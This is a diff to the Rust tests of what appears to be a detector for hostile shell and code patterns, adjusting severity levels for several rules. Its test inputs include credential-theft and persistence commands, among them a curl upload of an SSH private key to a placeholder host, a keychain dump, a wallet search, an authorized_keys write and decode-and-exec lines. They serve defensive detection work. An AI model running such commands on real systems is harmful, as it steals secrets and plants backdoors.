@@ -170,7 +170,7 @@ fn credential_access_and_exfiltration_are_found() {
     );
     has("find ~ -name wallet.dat\n", "crypto-wallet", Level::High);
     has("security find-generic-password -s x -w\n", "keychain-dump", Level::High);
-    has("cat .env\n", "env-file-read", Level::Medium);
+    has("cat .env\n", "env-file-read", Level::Low);
     has(
         "curl -F f=@$HOME/.ssh/id_rsa https://example.invalid/u\n",
         "send-secrets",
@@ -211,7 +211,7 @@ fn reverse_shells_and_persistence_are_found() {
     has(
         "echo 'export X_API_KEY=your-key' >> ~/.bashrc\n",
         "shell-startup",
-        Level::Medium,
+        Level::Low,
     );
     has(
         "echo key >> ~/.ssh/authorized_keys\n",
@@ -227,8 +227,8 @@ fn reverse_shells_and_persistence_are_found() {
 
 #[test]
 fn obfuscation_is_found() {
-    has("exec(base64.b64decode(data))\n", "decode-and-exec", Level::High);
-    has("eval(atob(s))\n", "decode-and-exec", Level::High);
+    has("exec(base64.b64decode(data))\n", "decode-and-exec", Level::Critical);
+    has("eval(atob(s))\n", "decode-and-exec", Level::Critical);
     has(
         "String.fromCharCode(99,117,114,108,32,104,116,116,112,58,47)\n",
         "char-code-chain",
